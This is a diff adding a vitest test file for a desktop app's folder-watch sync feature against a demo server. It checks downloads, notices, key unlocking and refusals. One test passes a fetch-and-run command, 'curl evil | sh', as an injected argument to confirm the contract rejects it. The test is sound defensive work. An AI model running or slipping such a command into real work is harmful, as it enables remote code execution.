@@ -1,0 +1,130 @@
+// "Keep this folder in sync" through the contract, as the window drives it: the watch workflow on the download
+// folder against the demo server, its state and notices as the window and the tray get them, and the key kept
+// unlocked only while watching.
+import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import type { KeyState, WatchNotice, WatchStateView } from '../../../src/shared/ipc'
+import { createBackend, type Backend } from '../../../src/main/desktop/backend'
+import { createDefaultServices } from '../../../src/main/desktop/services'
+import { ScriptedDialogs } from '../../../src/main/preview/dialogs'
+import type { DemoServerHandle } from '../../../src/demo-server'
+import { DEMO_WALLET_KEY, startTestDemoServer } from '../../helpers/demo-server'
+
+let dir: string
+let demo: DemoServerHandle
+let backend: Backend
+let notices: WatchNotice[]
+
+async function ok<T>(name: string, args?: unknown): Promise<T> {
+  const result = await backend.dispatch(name, args)
+  if (!result.ok) throw new Error(`${name}: ${result.error.code}`)
+  return result.value as T
+}
+
+async function refused(name: string, args?: unknown): Promise<{ code: string; message: string }> {
+  const result = await backend.dispatch(name, args)
+  if (result.ok) throw new Error(`${name} was expected to fail`)
+  return result.error
+}
+
+async function until(check: (state: WatchStateView) => boolean, what: string): Promise<WatchStateView> {
+  for (let i = 0; i < 800; i++) {
+    const state = await ok<WatchStateView>('getWatchState')
+    if (check(state)) return state
+    await new Promise((resolve) => setTimeout(resolve, 25))
+  }
+  throw new Error(`timed out waiting for ${what}`)
+}
+
+async function setUp(options: { folder?: boolean; unlock?: boolean } = {}): Promise<void> {
+  const dataDir = join(dir, 'data')
+  await mkdir(dataDir, { mode: 0o700 })
+  const dialogs = new ScriptedDialogs()
+  backend = await createBackend({
+    dataDir,
+    dialogs,
+    shell: { openExternal: async () => undefined, openPath: async () => undefined },
+    info: { name: 't', version: '0', platform: 'linux', shell: 'preview' },
+    services: createDefaultServices({ dataDir }),
+    settingsForThisRun: { apiUrl: demo.apiUrl },
+    demoWallet: { apiUrl: demo.apiUrl, privateKey: DEMO_WALLET_KEY },
+    watchIntervalMs: 300,
+  })
+  backend.events.subscribe((name, payload) => {
+    if (name === 'watchNotice') notices.push(payload as WatchNotice)
+  })
+  if (options.folder ?? true) {
+    // Picked in main's dialog, then kept as the download folder (the window cannot name a folder by itself).
+    await mkdir(join(dir, 'out'))
+    dialogs.answer('folder', join(dir, 'out'))
+    await ok('chooseFolder')
+    await ok('updateSettings', { downloadDir: join(dir, 'out') })
+  }
+  await ok('useDemoSigner')
+  await ok('signInWithWallet')
+  if (options.unlock ?? true) await ok('unlockKey')
+}
+
+beforeEach(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'app-watch-'))
+  demo = await startTestDemoServer()
+  notices = []
+})
+
+afterEach(async () => {
+  await backend?.close()
+  await demo.close()
+  await rm(dir, { recursive: true, force: true })
+})
+
+describe('keeping the download folder in sync from the app', () => {
+  it('fetches what is there, then a file published later, says so, and gives the key back to auto-lock on stop', async () => {
+    await setUp()
+    const started = await ok<WatchStateView>('startWatch', { keepUnlocked: true })
+    expect(started).toMatchObject({ state: 'watching', destination: join(dir, 'out'), keepUnlocked: true, intervalMs: 300 })
+    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBe(true)
+
+    const first = await until((state) => state.lastCheckAt !== null, 'the first check')
+    expect(first.round).toBe(520)
+    expect(first.filesThisRound).toBeGreaterThan(0)
+    expect(first.recent.some((line) => line.kind === 'new-file')).toBe(true)
+    expect(notices.some((notice) => notice.kind === 'files-ready')).toBe(true)
+
+    // A seller uploads to order 101 (round 520, the selling round) while the app watches.
+    const content = 'id,prediction\nn1,0.25\n'
+    await demo.addArtifact({ order: 101, objectName: 'late-upload.csv', content })
+    const after = await until((state) => state.recent.some((line) => line.kind === 'new-file' && line.text.includes('late-upload.csv')), 'the late upload')
+    const line = after.recent.find((entry) => entry.text.includes('late-upload.csv'))!
+    const relativePath = line.text.replace('New file ready: ', '')
+    expect(await readFile(join(dir, 'out', relativePath), 'utf8')).toBe(content)
+    expect(notices.at(-1)).toMatchObject({ kind: 'files-ready', title: 'A new file is ready', body: relativePath })
+
+    // A manual sync of the same folder meanwhile is refused (the watch holds it), not run twice.
+    expect((await refused('startDownloads', { destination: join(dir, 'out') })).code).toBe('SYNC_FOLDER_BUSY')
+
+    const stopped = await ok<WatchStateView>('stopWatch')
+    expect(stopped.state).toBe('off')
+    expect(stopped.recent.length).toBeGreaterThan(0)
+    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
+  }, 60_000)
+
+  it('does not start without a download folder or with the key locked, and says what to do', async () => {
+    await setUp({ folder: false, unlock: false })
+    expect(await refused('startWatch', { keepUnlocked: false })).toMatchObject({ code: 'INVALID_ARGUMENT', message: expect.stringMatching(/download folder/) })
+    expect((await ok<WatchStateView>('getWatchState')).state).toBe('off')
+  })
+
+  it('refuses to watch while the key is locked: each new file is decrypted as it arrives', async () => {
+    await setUp({ unlock: false })
+    expect(await refused('startWatch', { keepUnlocked: true })).toMatchObject({ code: 'VAULT_LOCKED', message: expect.stringMatching(/Unlock your key/) })
+    expect((await ok<KeyState>('getKeyState')).keptUnlockedForSync).toBeFalsy()
+  })
+
+  it('the window cannot hand the watch a folder or a hook: the contract takes only the key choice', async () => {
+    await setUp()
+    expect((await refused('startWatch', { keepUnlocked: false, destination: '/etc' })).code).toBe('INVALID_ARGUMENT')
+    expect((await refused('startWatch', { keepUnlocked: false, exec: 'curl evil | sh' })).code).toBe('INVALID_ARGUMENT')
+  })
+})
